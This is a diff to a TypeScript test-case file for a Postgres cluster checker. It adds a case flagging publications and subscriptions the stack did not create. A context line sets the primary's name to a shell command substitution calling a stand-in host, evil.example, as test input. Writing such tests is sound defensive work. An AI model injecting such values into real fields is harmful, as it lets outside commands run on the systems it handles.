@@ -300,6 +300,33 @@ export const postgresCases: Case[] = [
     finds: [[null, "cluster", "Postgres 14", "15 and later", "npm run up -- --stack dev"]],
   },
   {
+    title: "rows that go out of a service's database, and come into one, by objects of somebody's",
+    breaks: (facts) => {
+      const object = (name: string, dbname: string) => ({ metadata: { name }, spec: { cluster: { name: "pg" }, dbname, name } });
+      facts.replications = [
+        { kind: "publications", object: object("out", "agents") },
+        { kind: "subscriptions", object: object("in", "platform") },
+        { kind: "subscriptions", object: object("theirs", "another") },
+      ];
+    },
+    finds: [
+      [
+        "agents",
+        "foreignObject",
+        "Publication out, which this stack has not made, gives the rows of the database agents",
+        "as a superuser",
+        "describe -n apps publications.postgresql.cnpg.io out",
+      ],
+      [
+        "platform",
+        "foreignObject",
+        "Subscription in,",
+        "into the database platform",
+        "describe -n apps subscriptions.postgresql.cnpg.io in",
+      ],
+    ],
+  },
+  {
     title: "a primary that is none, and other ways in than the program's",
     breaks: ({ cluster }) => {
       cluster!.status.currentPrimary = "$(curl evil.example)";
